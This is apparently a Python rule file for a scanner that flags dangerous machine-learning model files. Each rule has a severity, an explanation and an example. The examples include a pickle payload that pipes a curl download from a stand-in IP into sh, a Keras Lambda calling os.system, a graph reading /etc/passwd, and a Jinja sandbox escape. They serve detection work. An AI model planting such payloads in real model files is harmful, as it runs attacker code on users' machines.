"""Rules about model files, and about the policy itself."""

from __future__ import annotations

from scanner.rules.rule import DESERIALIZATION, Rule

ROWS = (
    Rule(
        "pickle-dangerous-import",
        "critical",
        "Loading the file runs code",
        "Loading this file runs {symbol}.",
        "A pickle is a program: whoever loads it runs what its author wrote, with the rights of the process.",
        "Remove the file. Ask the author for the weights as safetensors, and load those.",
        **DESERIALIZATION,
        example="""\
```python
class Payload:
    def __reduce__(self):
        return os.system, ("curl -s https://203.0.113.7/x | sh",)

torch.save({"weights": weights, "hook": Payload()}, "model.pt")
```

`torch.load("model.pt")` runs the command before it returns the weights. The finding names the call, its
arguments, the member of the archive and the offset in it.
""",
    ),
    Rule(
        "pickle-suspicious-import",
        "medium",
        "The file imports something a model does not need",
        "Loading this file imports {symbol}.",
        "The import is not known to run code by itself, but weights have no use for it.",
        "Ask the author why it is there; prefer the weights as safetensors.",
        **DESERIALIZATION,
        example="""\
```text
GLOBAL 'numexpr' 'evaluate'
```

`numexpr.evaluate` computes an expression; no set of weights has a use for it.
""",
    ),
    Rule(
        "keras-lambda-layer",
        "high",
        "A Lambda layer carries code",
        "The model holds a Keras Lambda layer, whose function runs when the model is loaded or called.",
        "A Lambda layer is serialised Python byte code; Keras runs it unless safe mode forbids it.",
        "Load with safe_mode=True, or ask for the model without Lambda layers.",
        **DESERIALIZATION,
        example="""\
```python
model = keras.Sequential([keras.layers.Lambda(lambda x: __import__("os").system("id") or x)])
model.save("model.keras")
```

`keras.models.load_model("model.keras", safe_mode=False)` unmarshals the byte code, and the first call of
the model runs it. In `.h5` files no safe mode forbids it.
""",
    ),
    Rule(
        "tensorflow-file-operation",
        "high",
        "The graph reads or writes files",
        "The TensorFlow graph uses the operation {symbol}.",
        "Graph operations run when the model is called and can read or overwrite any file of the process.",
        "Remove the file, or ask the author for a graph without file operations.",
        **DESERIALIZATION,
        example="""\
```text
node { name: "read" op: "ReadFile" input: "filename" }
node { name: "filename" op: "Const"  # "/etc/passwd"
}
```

Each call of the model reads the file, and can return its content as a tensor.
""",
    ),
    Rule(
        "safe-name-unsafe-content",
        "high",
        "The name promises a safe format, the content can run code",
        "The name says {evidence}; the content is {symbol}, which can run code when it is loaded.",
        "Reviewers and loaders trust a name such as .safetensors; a file that breaks the promise hides what it does.",
        "Remove the file, or rename it to what it is so that it is reviewed as that.",
        cwe=("CWE-646", "CWE-502"),
        owasp=("ML06:2023",),
        atlas=("AML.T0010", "AML.T0074"),
        example="""\
```python
pickle.dump(Payload(), open("model.safetensors", "wb"))
```

A reviewer lets `model.safetensors` pass; `torch.load` and `joblib.load` go by the content and unpickle it.
""",
    ),
    Rule(
        "name-contradicts-content",
        "medium",
        "The name contradicts the content",
        "The name says {evidence}; the content is {symbol}.",
        "Loaders and reviewers that go by the name will treat the file as something it is not.",
        "Rename the file to what it is.",
        cwe=("CWE-646",),
        owasp=("ML06:2023",),
        atlas=("AML.T0074",),
        example="""\
```python
numpy.savez("weights.onnx", a=array)  # numpy appends .npz to other names; renamed afterwards
```

The file is a NumPy archive. ONNX Runtime refuses it, other loaders take it for what it is.
""",
    ),
    Rule(
        "remote-code-reference",
        "medium",
        "The configuration names code to load",
        "The configuration asks the loader to run {symbol}.",
        "With trust_remote_code=True the loader imports and runs the named code.",
        "Keep trust_remote_code off, or review the named code and pin its revision.",
        cwe=("CWE-829", "CWE-94"),
        owasp=("LLM03:2025",),
        atlas=("AML.T0010",),
        example="""\
```json
{"auto_map": {"AutoModel": "other/repository--modeling.Model"}}
```

`AutoModel.from_pretrained(…, trust_remote_code=True)` imports `modeling.py` of that other repository.
""",
    ),
    Rule(
        "chat-template-code",
        "high",
        "A chat template reaches for Python internals",
        "The chat template uses {symbol}.",
        "Chat templates are Jinja programs; a loader without a sandbox runs what they reach.",
        "Remove the template or the file; ask the author for a template without such access.",
        cwe=("CWE-1336",),
        owasp=("LLM03:2025",),
        atlas=("AML.T0010",),
        example="""\
```jinja
{{ messages.__class__.__mro__[1].__subclasses__() }}
```

A loader that renders this outside Jinja's sandbox hands every class of the process to the template.
""",
    ),
    Rule(
        "malformed-model",
        "medium",
        "The file breaks the rules of its own format",
        "{evidence}",
        "No known writer makes such a file; readers that disagree about it can be played against each other.",
        "Remove the file, or write it again with the format's own library.",
        cwe=("CWE-1287",),
        owasp=("ML06:2023",),
        atlas=("AML.T0010",),
        example="""\
```text
archive/data.pkl   twice in the central directory, with different content
```

`torch.load` takes one of the two, other readers take the other: what a reviewer sees is not what runs.
""",
    ),
    Rule(
        "symlink-not-followed",
        "low",
        "A symbolic link stands where a model is expected",
        "{path} is a symbolic link to {symbol}; it was not followed.",
        "What a link leads to is decided by the machine that checks it out, not by this repository.",
        "Replace the link by the file, or by a Git LFS pointer.",
        cwe=("CWE-61",),
        atlas=("AML.T0010",),
        example="""\
```sh
ln -s weights-v2.safetensors model.safetensors
```

The change shows the address alone. What lies there is looked at under its own name, if it is a file here.
""",
    ),
    Rule(
        "symlink-escapes-repository",
        "medium",
        "A symbolic link leads out of the repository",
        "{path} is a symbolic link to {symbol}, outside the repository; it was not followed.",
        "The loader would open whatever lies at that address on the machine that runs it.",
        "Remove the link.",
        cwe=("CWE-61", "CWE-22"),
        atlas=("AML.T0010",),
        example="""\
```sh
ln -s /srv/models/latest.pt model.pt
```

Each machine loads another `model.pt`: whatever is at that address.
""",
    ),
    Rule(
        "submodule-not-followed",
        "low",
        "A submodule was not looked into",
        "{path} is a submodule at {symbol}; it was not looked into.",
        "Models inside a submodule are loaded like any other, but they are not part of this repository.",
        "Run Modelward in the submodule's own repository.",
        cwe=("CWE-829",),
        owasp=("ML06:2023",),
        atlas=("AML.T0010",),
        example="""\
```ini
[submodule "models"]
    path = models
    url = https://github.com/acme/models
```

The change moves the submodule to another commit; its files are in another repository.
""",
    ),
    Rule(
        "denied-digest",
        "critical",
        "The file is on the deny list",
        "The SHA-256 digest {symbol} is denied by the configuration.",
        "Your policy says that this very file must not be used.",
        "Remove the file.",
        example="""\
```yaml
deny:
  digests: ["sha256:9ffa16a0337d07153b98aee0866316d69ffa16a0337d07153b98aee0866316d6"]
```

A file with this digest fails the change, whatever it is called.
""",
    ),
    Rule(
        "denied-license",
        "high",
        "The licence is denied",
        "The licence {symbol} is denied by the configuration.",
        "Your policy says that models under this licence must not be used.",
        "Use another model, or have the policy changed on the default branch first.",
        example="""\
```yaml
deny:
  licenses: [cc-by-nc-4.0]
```

A reference to a model whose card states this licence fails the change.
""",
    ),
    Rule(
        "denied-publisher",
        "high",
        "The publisher is denied",
        "The publisher {symbol} is denied by the configuration.",
        "Your policy says that models of this publisher must not be used.",
        "Use another model, or have the policy changed on the default branch first.",
        example="""\
```yaml
deny:
  publishers: [acme-mirror]
```

A reference to `acme-mirror/anything` fails the change.
""",
    ),
    Rule(
        "denied-repository",
        "high",
        "The repository is denied",
        "The repository {symbol} is denied by the configuration.",
        "Your policy says that this repository must not be used.",
        "Use another model, or have the policy changed on the default branch first.",
        example="""\
```yaml
deny:
  repositories: [acme/old-model]
```

A reference to `acme/old-model` fails the change.
""",
    ),
    Rule(
        "policy-changed",
        "info",
        "The change edits the policy itself",
        "This change edits {path}; the policy of the base commit was used.",
        "A change that loosens the policy takes effect only after it is merged, and should be reviewed as such.",
        "Review the policy change on its own.",
        example="""\
```diff
 rules:
-  pickle-dangerous-import: critical
+  pickle-dangerous-import: off
```

The policy of the base was used for this very change; the new one binds from the next.
""",
    ),
)
